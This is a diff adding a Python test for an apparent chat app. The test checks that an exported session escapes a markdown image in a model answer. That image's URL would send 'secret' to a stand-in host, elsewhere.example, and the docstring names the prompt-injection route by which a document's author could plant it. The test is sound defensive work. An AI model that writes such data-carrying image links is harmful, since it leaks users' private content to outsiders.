@@ -231,6 +231,14 @@ def test_a_pasted_page_is_no_heading(filled: Any) -> None:
     assert quoted == [r"What is meant by \*this\*?", "", ("The sea was calm and the fox slept. " * 9).strip()]
 
 
+def test_an_export_fetches_no_picture_that_an_answer_names(filled: Any) -> None:
+    """Whoever wrote the document could have the model write an address with what it had read in it."""
+    session = filled.session()
+    filled.answered(session, "Well?", "Yes! ![all of it](https://elsewhere.example/?said=secret) [1]")
+    lines = filled.store.export_session(session.id).split("\n")
+    assert r"Yes! \![all of it](https://elsewhere.example/?said=secret) [1]" in lines
+
+
 def test_export_json_is_complete(talked: Any) -> None:
     store, session, document = talked
     data = json.loads(store.export_session(session.id, "json"))
